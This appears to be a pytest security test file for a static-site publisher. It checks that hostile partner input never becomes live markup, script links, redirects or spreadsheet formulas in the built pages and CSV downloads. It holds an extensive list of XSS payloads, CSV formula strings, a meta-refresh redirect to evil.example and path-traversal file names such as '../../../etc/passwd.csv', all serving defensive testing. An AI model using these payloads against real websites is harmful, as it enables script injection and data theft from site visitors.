"""Hostile partner input never becomes markup, a script, a redirect or a formula on the site.

Each class of attack has a test that fails if its guard is removed: the assertions look at the
built HTML and downloads (what a reader would get), not only at the issues validation raised.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from bs4 import BeautifulSoup
from conftest import FIXTURES, REPO, materialise

from laa_publish.issues import has_errors
from laa_publish.load.positions import YamlDocument
from laa_publish.load.yaml_loader import load_yaml_text
from laa_publish.pipeline import BuildRefused, build_site
from laa_publish.render.downloads import FORMULA_STARTS
from laa_publish.validate import markdown_safety
from laa_publish.validate import run as validate_run
from laa_publish.validate.markdown_safety import markdown_issues, site_extensions
from laa_publish.validate.run import check
from laa_publish.write.harden import UnsafeOutput, script_hash

MARK = "laa-xss"
# Everything a careless or malicious partner might paste into a text field.
FULL = (
    f'{MARK} <script>alert("{MARK}")</script> <img src=x onerror=alert("{MARK}")> '
    f"<a href=\"javascript:alert('{MARK}')\">a</a> [link](javascript:alert('{MARK}')) "
    f'<svg onload=alert("{MARK}")><style>body{{display:none}}</style> '
    f"{{: onclick=\"alert('{MARK}')\"}} <!-- {MARK} --> &lt;b&gt; &#60;i&#62; "
    f"*[{MARK}]: abbr [^1] | pipe | `tick` # hash"
)
# The same tricks without < and >, for fields whose schema refuses those characters.
PLAIN = (
    f"{MARK} \" onmouseover=\"alert('{MARK}') ' onfocus='x &lt;script&gt;alert(1)&lt;/script&gt; "
    f"&#60;img src=x onerror=alert(1)&#62; &amp;lt;i&amp;gt; [link](javascript:alert(1)) "
    f"{{: onclick=x}} *[{MARK}]: abbr | pipe | `tick` & AT&T"
)
SHORT = f"{MARK} \" ' &lt;x&gt; [l](javascript:x)"
# A URL field's pattern allows brackets: they must not open a second, scripted link.
URL = "https://evil.example/x)[b](javascript:alert(1)"

# Every free-text field a schema defines, as (file, path); '*' is every list item.
TEXT_FIELDS: list[tuple[str, tuple[Any, ...]]] = [
    ("site_config/partnership.yaml", ("name",)),
    ("site_config/partnership.yaml", ("place",)),
    ("site_config/partnership.yaml", ("agreement", "title")),
    ("site_config/partnership.yaml", ("contact", "name")),
    ("site_config/partnership.yaml", ("themes", "*", "title")),
    ("site_config/partnership.yaml", ("themes", "*", "description")),
    ("site_config/partnership.yaml", ("dimensions", "*", "title")),
    ("site_config/partnership.yaml", ("dimensions", "*", "values", "*", "label")),
    ("site_config/partnership.yaml", ("levels", "*", "name")),
    ("site_config/partnership.yaml", ("levels", "*", "plural")),
    ("site_config/partnership.yaml", ("licence",)),
    ("data/registers/partners.yaml", ("partners", "*", "name")),
    ("data/registers/partners.yaml", ("partners", "*", "short_name")),
    ("data/registers/partners.yaml", ("partners", "*", "description")),
    ("data/registers/areas.yaml", ("areas", "*", "name")),
    ("data/outcomes/CYP-1.yaml", ("title",)),
    ("data/outcomes/CYP-1.yaml", ("summary",)),
    ("data/outcomes/SSC-1.yaml", ("title",)),
    ("data/outcomes/SSC-1.yaml", ("summary",)),
    ("data/partners/city-council/indicators/NI-116.yaml", ("title",)),
    ("data/partners/city-council/indicators/NI-116.yaml", ("definition",)),
    ("data/partners/city-council/indicators/NI-116.yaml", ("source",)),
    ("data/partners/city-council/indicators/NI-116.yaml", ("methodology",)),
    ("data/partners/city-council/indicators/NI-116.yaml", ("limitations",)),
    ("data/partners/city-council/indicators/NI-116.yaml", ("contact", "name")),
    ("data/partners/city-council/indicators/NI-116.yaml", ("comparators", "*", "name")),
    ("data/partners/city-council/indicators/NI-116.yaml", ("comparators", "*", "source")),
    ("data/partners/police/indicators/LOC-SSC-01.yaml", ("title",)),
    ("data/partners/police/indicators/LOC-SSC-01.yaml", ("definition",)),
    ("data/partners/city-council/framework.yaml", ("framework",)),
    ("data/partners/city-council/framework.yaml", ("measures", "*", "name")),
    ("data/partners/city-council/framework.yaml", ("measures", "*", "description")),
    ("data/partners/city-council/budgets.yaml", ("contributions", "*", "note")),
    ("data/partners/city-council/benefits.yaml", ("benefits", "*", "title")),
    ("data/partners/city-council/benefits.yaml", ("benefits", "*", "description")),
    ("data/partners/city-council/benefits.yaml", ("benefits", "*", "measure", "description")),
    ("data/partners/city-council/benefits.yaml", ("benefits", "*", "sign_off", "role")),
    ("data/partners/city-council/benefits.yaml", ("benefits", "*", "sign_off", "name")),
]
URL_FIELDS: list[tuple[str, tuple[Any, ...]]] = [
    ("data/registers/partners.yaml", ("partners", "*", "website")),
    ("data/partners/city-council/framework.yaml", ("url",)),
    ("data/partners/city-council/indicators/NI-116.yaml", ("comparators", "*", "source_url")),
    ("data/partners/city-council/benefits.yaml", ("benefits", "*", "sign_off", "evidence")),
]
# Schema strings that are references or codes, checked against registers, not free text.
NOT_FREE_TEXT = {
    ("areas", ("areas", "*", "parent")),
    ("outcome", ("theme",)),
    ("outcome", ("narrative",)),
    ("indicator", ("baseline", "period")),
    ("indicator", ("targets", "*", "period")),
    ("partnership", ("dimensions", "*", "values", "*", "code")),
}
SCHEMA_OF = {
    "site_config/partnership.yaml": "partnership",
    "data/registers/partners.yaml": "partners",
    "data/registers/areas.yaml": "areas",
    "data/outcomes/": "outcome",
    "/indicators/": "indicator",
    "/framework.yaml": "framework",
    "/budgets.yaml": "budgets",
    "/benefits.yaml": "benefits",
}
CSV_FILE = "data/partners/city-council/indicators/NI-116.csv"
FORMULAS = ["=1+1", "+SUM(A1)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", '=HYPERLINK("http://x")']
META_PAGES = {
    # MultiMarkdown-style metadata: MkDocs prints 'description' raw into a <meta> attribute.
    "content/pages/meta.md": (
        'description: 0;url=https://evil.example" http-equiv="refresh\n'
        f"title: {MARK} title\n\n# Meta page\n\nText.\n"
    ),
    # YAML front matter, the other form MkDocs reads.
    "content/pages/front.md": (
        "---\ntemplate: 404.html\n"
        'description: 0;url=https://evil.example" http-equiv="refresh\n---\n\n# Front page\n'
    ),
}


def _schema_name(rel: str) -> str:
    return next(name for key, name in SCHEMA_OF.items() if key in rel)


def _free_text_paths(schema: dict[str, Any], path: tuple[Any, ...] = ()) -> Iterator[tuple]:
    """Every plain string property a schema defines: no enum, const, format or strict pattern."""
    kind = schema.get("type")
    if kind == "string" or (isinstance(kind, list) and "string" in kind):
        plain = not {"enum", "const", "format"} & set(schema)
        if plain and schema.get("pattern") in (None, "^[^<>]*$"):
            yield path
    for key, sub in schema.get("properties", {}).items():
        yield from _free_text_paths(sub, (*path, key))
    if isinstance(schema.get("items"), dict):
        yield from _free_text_paths(schema["items"], (*path, "*"))
    for key in ("anyOf", "oneOf", "allOf"):
        for sub in schema.get(key, []):
            yield from _free_text_paths(sub, path)


def test_every_free_text_field_of_every_schema_gets_hostile_input() -> None:
    schemas = Path(validate_run.__file__).resolve().parent.parent / "schemas"
    covered = {(_schema_name(rel), path) for rel, path in TEXT_FIELDS}
    missing = []
    for name in sorted({_schema_name(rel) for rel, _ in TEXT_FIELDS}):
        schema = json.loads((schemas / f"{name}.schema.json").read_text(encoding="utf-8"))
        for path in _free_text_paths(schema):
            if (name, path) not in covered | NOT_FREE_TEXT:
                missing.append((name, path))
    assert missing == [], "add these fields to TEXT_FIELDS so hostile input reaches them"


def _set(data: Any, path: tuple[Any, ...], value: str) -> int:
    """Set every node at path (with '*' for every item); returns how many were set."""
    head, *rest = path
    if head == "*":
        return sum(_set(item, path[1:], value) for item in data) if isinstance(data, list) else 0
    if not isinstance(data, dict):
        return 0
    if not rest:  # optional text fields are added where absent
        data[head] = value
        return 1
    return _set(data[head], tuple(rest), value) if head in data else 0


def _lines(doc: YamlDocument, path: tuple[Any, ...]) -> set[int]:
    """The line of every value at path, as the loader positioned them."""
    found: set[int] = set()

    def walk(node: Any, at: tuple[Any, ...], todo: tuple[Any, ...]) -> None:
        if not todo:
            position = doc.positions.get(at)
            if position:
                found.add(position.line)
            return
        first, *more = todo
        if first == "*" and isinstance(node, list):
            for index, item in enumerate(node):
                walk(item, (*at, index), tuple(more))
        elif isinstance(node, dict) and first in node:
            walk(node[first], (*at, first), tuple(more))

    walk(doc.data, (), path)
    return found


def _write_payloads(root: Path, choice: dict[tuple[str, tuple], str]) -> None:
    for rel in sorted({rel for rel, _ in choice}):
        target = root / rel
        data = yaml.safe_load(target.read_text(encoding="utf-8"))
        for (file, path), value in choice.items():
            if file == rel:
                assert _set(data, path, value), f"{rel}: no {path} to attack"
        target.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), "utf-8")


def _rejected(root: Path, fields: list[tuple[str, tuple]]) -> dict[tuple[str, tuple], list]:
    """Which fields validation refused, with the issues positioned on their lines."""
    issues = check(root).issues
    refused: dict[tuple[str, tuple], list] = {}
    for rel, path in fields:
        text = (root / rel).read_text(encoding="utf-8")
        doc, _ = load_yaml_text(text, rel)
        assert doc is not None
        lines = _lines(doc, path)
        here = [i for i in issues if i.path == rel and i.line in lines and i.severity == "error"]
        if here:
            refused[(rel, path)] = here
    return refused


def _with_csv_payloads(root: Path) -> None:
    rows = list(csv.reader(io.StringIO((root / CSV_FILE).read_text(encoding="utf-8"))))
    note = rows[0].index("note")
    notes = [*FORMULAS, FULL]
    for index, row in enumerate(rows[1:]):
        row[note] = notes[index % len(notes)]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)  # quotes a lone CR too
    (root / CSV_FILE).write_bytes(buffer.getvalue().encode("utf-8"))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A partnership with hostile text in every field, validated, then built if it is valid."""
    tmp = tmp_path_factory.mktemp("hostile")
    root = materialise(FIXTURES / "valid" / "partnership-files", tmp / "repo")
    shutil.copyfile(REPO / "mkdocs.yml", root / "mkdocs.yml")  # the shipped engine settings
    choice = {field: FULL for field in TEXT_FIELDS} | {field: URL for field in URL_FIELDS}
    refusals: dict[tuple[str, tuple], list] = {}
    for fallback in (PLAIN, SHORT, None):
        _write_payloads(root, choice)
        refused = _rejected(root, [*TEXT_FIELDS, *URL_FIELDS])
        if not refused:
            break
        assert fallback is not None, f"fields refusing even {SHORT!r}: {sorted(refused)}"
        for field, issues in refused.items():
            refusals.setdefault(field, issues)
            choice[field] = fallback
    _with_csv_payloads(root)
    for rel, text in META_PAGES.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text, encoding="utf-8")
    result = check(root)
    assert not has_errors(result.issues), [i for i in result.issues if i.severity == "error"]
    site = tmp / "site"
    build_site(root, site, work_dir=tmp / "work")
    return {"site": site, "refusals": refusals, "choice": choice}


def _pages(site: Path) -> list[tuple[str, BeautifulSoup]]:
    return [
        (
            p.relative_to(site).as_posix(),
            BeautifulSoup(p.read_text(encoding="utf-8"), "html.parser"),
        )
        for p in sorted(site.rglob("*.html"))
    ]


TEXT_ATTRIBUTES = {"alt", "title", "aria-label", "content", "value", "placeholder"}
_SLUG = re.compile(r"#?[a-z0-9_-]+")


def _is_slug(name: str, value: str) -> bool:
    """Heading ids and links to them: slugified partner text, safe by construction."""
    return name in ("id", "href") and bool(_SLUG.fullmatch(value))


@pytest.mark.slow
def test_fields_that_refuse_markup_say_where(hostile: dict[str, Any]) -> None:
    refusals = hostile["refusals"]
    assert refusals, "the schemas refuse < and > in titles and names"
    for (rel, _), issues in refusals.items():
        assert all(i.path == rel and i.line and i.column for i in issues)
    assert (
        hostile["choice"][("data/partners/city-council/indicators/NI-116.yaml", ("definition",))]
        == FULL
    )


@pytest.mark.slow
def test_no_hostile_text_becomes_markup(hostile: dict[str, Any]) -> None:
    offences = []
    for rel, soup in _pages(hostile["site"]):
        for tag in soup.find_all(True):
            if MARK in tag.name:
                offences.append((rel, f"<{tag.name}>"))
            for name, value in tag.attrs.items():
                text = " ".join(value) if isinstance(value, list) else str(value)
                scripted = re.sub(r"\s", "", text).lower().startswith(("javascript:", "data:text"))
                if name.startswith("on") or MARK in name:
                    offences.append((rel, f"{name}= on <{tag.name}>"))
                elif (MARK in text and name not in TEXT_ATTRIBUTES | {"id"}) or scripted:
                    if _is_slug(name, text):
                        continue
                    offences.append((rel, f"{name}={text[:40]!r} on <{tag.name}>"))
                elif name == "style":
                    offences.append((rel, f"style= on <{tag.name}>"))
            if tag.name == "meta" and str(tag.get("http-equiv", "")).lower() == "refresh":
                offences.append((rel, "<meta http-equiv=refresh>"))
            data_block = tag.name == "script" and tag.get("type") == "application/ld+json"
            if data_block and re.search(r"[<>&]", tag.get_text()):
                offences.append((rel, "a JSON-LD block with unescaped < > or &"))
            elif tag.name in ("script", "style") and MARK in tag.get_text() and not data_block:
                offences.append((rel, f"<{tag.name}> holding partner text"))
    assert offences == []


@pytest.mark.slow
def test_hostile_text_is_shown_as_text(hostile: dict[str, Any]) -> None:
    soup = dict(_pages(hostile["site"]))["indicators/NI-116.html"]
    text = soup.find("article").get_text(" ")
    assert f'<script>alert("{MARK}")</script>' in text
    assert f"[link](javascript:alert('{MARK}'))" in text
    title = soup.find("title").get_text()
    assert "<" not in title and MARK in title


@pytest.mark.slow
def test_url_fields_never_become_script_links(hostile: dict[str, Any]) -> None:
    hrefs = [
        a["href"]
        for _, soup in _pages(hostile["site"])
        for a in soup.find_all("a", href=True)
        if not _is_slug("href", a["href"])
    ]
    assert any(h.startswith("https://evil.example/x%29%5Bb%5D") for h in hrefs)
    schemes = ("javascript:", "vbscript:", "data:")
    assert not [h for h in hrefs if re.sub(r"[\x00-\x20]", "", h).lower().startswith(schemes)]


@pytest.mark.slow
def test_page_metadata_cannot_be_injected(hostile: dict[str, Any]) -> None:
    pages = dict(_pages(hostile["site"]))
    for rel in ("pages/meta.html", "pages/front.html"):
        soup = pages[rel]
        assert soup.find("meta", attrs={"http-equiv": "refresh"}) is None
        description = soup.find("meta", attrs={"name": "description"})
        assert description is None or "evil" not in description.get("content", "")
        assert "0;url=https://evil.example" in soup.find("article").get_text()
    assert (
        pages["pages/front.html"]
        .find("article")
        .find("h1")
        .get_text(strip=True)
        .startswith("Front page")
    )


@pytest.mark.slow
def test_every_inline_script_is_allowed_by_its_hash(hostile: dict[str, Any]) -> None:
    for rel, soup in _pages(hostile["site"]):
        policy = soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"]
        for script in soup.find_all("script", src=False):
            assert script_hash(script.string or "") in policy, rel


@pytest.mark.slow
def test_downloads_neutralise_formulas_and_keep_numbers(hostile: dict[str, Any]) -> None:
    download = hostile["site"] / "downloads" / "NI-116.csv"
    rows = list(csv.DictReader(io.StringIO(download.read_text(encoding="utf-8"), newline="")))
    notes = [row["note"] for row in rows]
    # the loader strips surrounding whitespace, so a leading tab or CR never survives at all
    assert {f"'{f}" for f in FORMULAS if not f[0].isspace()} <= set(notes)
    assert not [n for n in notes if n.startswith(FORMULA_STARTS)]
    values = [row["value"] for row in rows if row["value"]]
    assert values and all(float(v) == float(v) for v in values)
    assert not [v for v in values if v.startswith("'")]


# Narrative Markdown: each payload on line 3, after a heading and a blank line.
NARRATIVE_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/track.gif)",
    "<svg><script>alert(1)</script></svg>",
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jAvAsCrIpT:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](vbscript:msgbox(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%">x</span>',
    "<style>@import url(https://evil.example/x.css);</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name="q"></form>',
    '<details open ontoggle="alert(1)">x</details>',
    '<div onmouseover="alert(1)">x</div>',
    "<!-- hidden --><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a href="https://ok.example" target="_blank">x</a>',
    "</div></article><p>x</p>",
]
ATTR_LIST_PAYLOADS = [
    'Paragraph\n{: onclick="alert(1)"}',
    "[x](https://ok.example){: onmouseover=alert(1) }",
    '# Heading {: style="display:none" }',
    '[x](https://ok.example){: href="javascript:alert(1)" }',
]
HEAD = "# Story\n\n"


@pytest.fixture(scope="module")
def attr_list_extensions(tmp_path_factory: pytest.TempPathFactory) -> tuple:
    folder = tmp_path_factory.mktemp("attr-list")
    (folder / "mkdocs.yml").write_text("markdown_extensions:\n  - attr_list\n", encoding="utf-8")
    site_extensions.cache_clear()
    return site_extensions(folder / "mkdocs.yml")


@pytest.mark.parametrize("payload", NARRATIVE_PAYLOADS)
def test_narrative_payload_is_refused_at_its_line(payload: str) -> None:
    issues = list(
        markdown_issues("content/outcomes/CYP-1.md", HEAD + payload + "\n", site_extensions(None))
    )
    assert issues and {i.code for i in issues} == {"markdown-unsafe"}
    assert {i.line for i in issues} <= {3, 4, 5}


@pytest.mark.parametrize("payload", ATTR_LIST_PAYLOADS)
def test_attr_list_injection_is_refused(payload: str, attr_list_extensions: tuple) -> None:
    issues = list(
        markdown_issues("content/outcomes/CYP-1.md", HEAD + payload + "\n", attr_list_extensions)
    )
    assert issues and {i.line for i in issues} <= {3, 4}


@pytest.mark.parametrize("layer", ["inspector", "sanitiser"])
def test_each_markdown_guard_alone_refuses_the_corpus(
    layer: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Either line of defence catches every payload on its own, so one bug cannot open the site."""
    if layer == "inspector":
        monkeypatch.setattr(markdown_safety, "sanitiser_changes", lambda rendered: None)
    else:
        monkeypatch.setattr(markdown_safety._Inspector, "feed", lambda self, data: None)
    passed = [
        p
        for p in NARRATIVE_PAYLOADS
        if not list(markdown_issues("c.md", HEAD + p + "\n", site_extensions(None)))
    ]
    assert passed == []


def test_safe_markdown_passes_both_guards() -> None:
    text = (
        "# Story\n\nChild poverty **fell**, see [the report](https://example.org/r?a=1&b=2) "
        "and [NI-116](../../indicators/NI-116.md#trend).\n\n| Year | Rate |\n|:--|--:|\n"
        "| 2024-25 | 20.1 |\n\nA footnote[^1] and an LAA.\n\n[^1]: Source: DWP.\n\n"
        "*[LAA]: Local Area Agreement\n\n&lt;script&gt; is shown as text. <mailto:a@b.example>\n"
    )
    assert list(markdown_issues("c.md", text, site_extensions(None))) == []


@pytest.mark.parametrize(
    "rel", ["content/outcomes/CYP-1.md", "content/index.md", "content/pages/about.md"]
)
def test_every_kind_of_narrative_is_checked(rel: str, minimal_repo) -> None:
    root = minimal_repo({rel: HEAD + "<img src=x onerror=alert(1)>\n"})
    issues = [i for i in check(root).issues if i.code == "markdown-unsafe"]
    assert [(i.path, i.line) for i in issues] == [(rel, 3)]


@pytest.mark.slow
def test_a_narrative_that_slips_past_validation_is_never_published(
    minimal_repo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """If the Markdown guard failed, the built-page audit refuses to publish, atomically."""
    root = minimal_repo(
        {"content/outcomes/CYP-1.md": HEAD + "<script>alert(1)</script>\n\n<img src=x onerror=y>\n"}
    )
    out = tmp_path / "site"
    out.mkdir()
    (out / "index.html").write_text("previous site", encoding="utf-8")
    monkeypatch.setattr(validate_run, "markdown_issues", lambda *args: iter(()))
    with pytest.raises(UnsafeOutput, match=r"outcomes/CYP-1"):
        build_site(root, out, work_dir=tmp_path / "work")
    assert [p.name for p in out.iterdir()] == ["index.html"]
    assert (out / "index.html").read_text(encoding="utf-8") == "previous site"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_the_guarded_build_refuses_it_with_a_position(minimal_repo, tmp_path: Path) -> None:
    root = minimal_repo({"content/outcomes/CYP-1.md": HEAD + "<script>alert(1)</script>\n"})
    with pytest.raises(BuildRefused) as refused:
        build_site(root, tmp_path / "site", work_dir=tmp_path / "work")
    keys = {(i.path, i.line, i.column, i.code) for i in refused.value.issues}
    assert ("content/outcomes/CYP-1.md", 3, 1, "markdown-unsafe") in keys
    assert not (tmp_path / "site").exists()


@pytest.mark.parametrize(
    "data", ["../../../etc/passwd.csv", "/etc/passwd.csv", "sub/NI-116.csv", "..\\x.csv"]
)
def test_an_indicator_cannot_name_a_file_elsewhere(data: str, minimal_repo) -> None:
    rel = "data/partners/city-council/indicators/NI-116.yaml"
    root = minimal_repo()
    text = (root / rel).read_text(encoding="utf-8")
    (root / rel).write_text(text + f"data: '{data}'\n", encoding="utf-8")
    issues = [i for i in check(root).issues if i.path == rel]
    assert issues and all(i.line == text.count("\n") + 1 for i in issues)
